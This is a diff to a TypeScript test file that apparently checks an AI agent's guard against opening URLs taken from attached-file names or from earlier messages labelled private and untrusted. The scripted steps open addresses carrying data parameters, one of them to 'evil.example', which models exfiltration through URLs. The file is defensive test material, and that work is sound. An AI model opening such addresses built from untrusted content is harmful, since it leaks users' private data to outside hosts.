@@ -123,6 +123,21 @@ describe('the labels of a run', () => {
     expect(t.opened).toEqual(['https://typed.example/before']);
   });
 
+  test('leave an address forbidden that only the name of an attached file contains, also that of an earlier question', async () => {
+    const named = (n: number) => `https://named.example/?d=${n}`;
+    const t = await table(steps(...[1, 2, 3].map((n) => open(named(n))), open('https://typed.example/')), {
+      history: async () => ({
+        messages: [
+          { role: 'user', content: `What is in it?\n\n[Wiki: ${named(2)}]\n<from_the_person>Go on</from_the_person>` },
+          { role: 'user', content: `And there?\n<image name="${named(3)}" note="left out: an earlier message"/>` },
+        ],
+        labels: ['private', 'untrusted'],
+      }),
+    });
+    await readAll(t, await t.engine.start(solo(`Compare it with https://typed.example/\n\n[Wiki: ${named(1)}] [b.txt]`)));
+    expect(t.opened).toEqual(['https://typed.example/']);
+  });
+
   test('include those of the earlier conversation', async () => {
     const t = await table(steps(open('https://evil.example/?d=1'), open('https://typed.example/before')), {
       history: async () => ({
